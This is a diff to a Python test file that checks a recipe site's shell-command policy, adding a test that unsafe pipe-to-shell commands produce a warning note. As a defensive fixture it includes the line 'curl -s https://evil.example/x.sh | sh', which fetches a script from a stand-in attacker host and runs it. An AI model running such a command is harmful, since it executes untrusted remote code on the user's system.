@@ -13,7 +13,13 @@ from catalog_kit import COMPAT_CORPUS, PROJECT_ROOT, VALID_RECIPE, line_of, make
 
 from recipes_site import cli
 from recipes_site.catalog import load_catalog
-from recipes_site.catalog.shell_policy import command_problem, lex, recipe_commands, steps
+from recipes_site.catalog.shell_policy import (
+    command_problem,
+    lex,
+    recipe_commands,
+    steps,
+    unchecked_note,
+)
 from recipes_site.synthesis.install import UNCHECKED_SHELL_WARNING
 
 HOSTILE = [
@@ -208,3 +214,9 @@ def test_words_are_read_as_bash_reads_them():
     assert command_problem("pip install x &&") == ("`&&` with no command after it", 0)
     # the line of the command a refusal is on
     assert command_problem("uv venv\nuv pip install x | sh")[1] == 1
+
+
+def test_the_diff_note_names_the_warning_and_the_reason():
+    note = unchecked_note("curl -s https://evil.example/x.sh | sh")
+    assert note is not None and UNCHECKED_SHELL_WARNING in note and "pipe" in note
+    assert unchecked_note("uv pip install -U vllm --torch-backend auto") is None
